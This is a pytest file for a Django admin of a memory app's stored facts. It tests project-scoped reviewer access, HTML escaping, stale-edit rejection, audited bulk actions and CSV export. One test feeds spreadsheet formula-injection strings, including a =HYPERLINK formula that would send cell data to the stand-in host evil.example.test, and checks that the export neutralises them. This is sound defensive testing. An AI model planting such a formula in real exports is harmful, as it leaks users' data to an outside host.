"""The admin of facts: reviewers of their own projects, through the services."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.test import Client

from access_app.services import add_member
from agentstate.ids import new_id
from tests.memory_app.calls import facts, remember

LIST = "/admin/memory_app/fact/"


@pytest.fixture
def reviewer(project):
    user = User.objects.create_user(f"r-{new_id()}", password="x", is_staff=True)
    names = ["view_fact", "change_fact"]
    user.user_permissions.set(Permission.objects.filter(codename__in=names))
    add_member(project.id, user, "reviewer")
    client = Client()
    client.force_login(user)
    return client


def form(row, **changes):
    return {
        "fact": row["fact"],
        "key": row["key"],
        "kind": row["kind"],
        "note": row["note"],
        "reason": "",
        "expected_version": row["version"],
    } | changes


def test_reviewers_see_their_projects_alone(api, other_api, reviewer):
    remember(api, "Likes <b>tea</b>")
    foreign = remember(other_api, "Theirs alone")
    shown = reviewer.get(LIST).content.decode()
    assert "Likes &lt;b&gt;tea&lt;/b&gt;" in shown and "Theirs alone" not in shown
    assert reviewer.get(f"{LIST}{foreign['id']}/change/").status_code in (302, 404)


def test_ad_02_a_late_form_changes_nothing(api, reviewer):
    first, second = remember(api, "one"), remember(api, "two")
    api.patch(
        f"/api/v1/memory/{second['id']}", {"fact": "by API", "expected_version": 1}
    )
    saved = reviewer.post(
        f"{LIST}{first['id']}/change/",
        form(first, fact="by staff", reason="a letter"),
    )
    assert saved.status_code == 302
    late = reviewer.post(f"{LIST}{second['id']}/change/", form(second, fact="stale"))
    assert late.status_code == 302
    now = {f["id"]: f for f in facts(api)}
    assert now[first["id"]]["fact"] == "by staff" and now[first["id"]]["version"] == 2
    assert now[second["id"]]["fact"] == "by API" and now[second["id"]]["version"] == 2
    entries = api.get("/api/v1/audit", params={"action": "memory.corrected"}).json
    assert [(e["after"]["fact"], e["reason"]) for e in entries["items"]] == [
        ("by staff", "a letter"),
        ("by API", ""),
    ]
    untouched = reviewer.post(f"{LIST}{first['id']}/change/", form(now[first["id"]]))
    assert untouched.status_code == 302
    assert {f["id"]: f for f in facts(api)} == now


def test_ad_03_no_cell_of_an_export_is_a_formula(api, reviewer):
    given = [
        '=HYPERLINK("https://evil.example.test/?"&A1,"x")',
        "+1+1",
        "-2",
        "@SUM(A1)",
        "\tTab first",
        "\r=1",
        " =1 more",
        "plain",
    ]
    made = [remember(api, text)["id"] for text in given]
    answer = reviewer.post(LIST, {"action": "export_csv", "_selected_action": made})
    text = b"".join(answer.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [row[2] for row in rows[1:]]
    assert [cell.removeprefix("'") for cell in cells] == given
    assert not any(cell.lstrip(" ")[:1] in "=+-@\t\r" for cell in cells)


def test_ad_06_actions_are_audited_one_by_one(api, reviewer):
    made = [remember(api, f"fact {n}")["id"] for n in range(5)]
    reviewer.post(LIST, {"action": "reject", "_selected_action": made[:3]})
    assert [f["status"] for f in facts(api)] == ["active"] * 2 + ["rejected"] * 3
    reviewer.post(LIST, {"action": "forget", "_selected_action": made[3:]})
    assert len(facts(api)) == 3

    def audited(action):
        params = {"action": action}
        return len(api.get("/api/v1/audit", params=params).json["items"])

    assert (audited("memory.rejected"), audited("memory.forgotten")) == (3, 2)
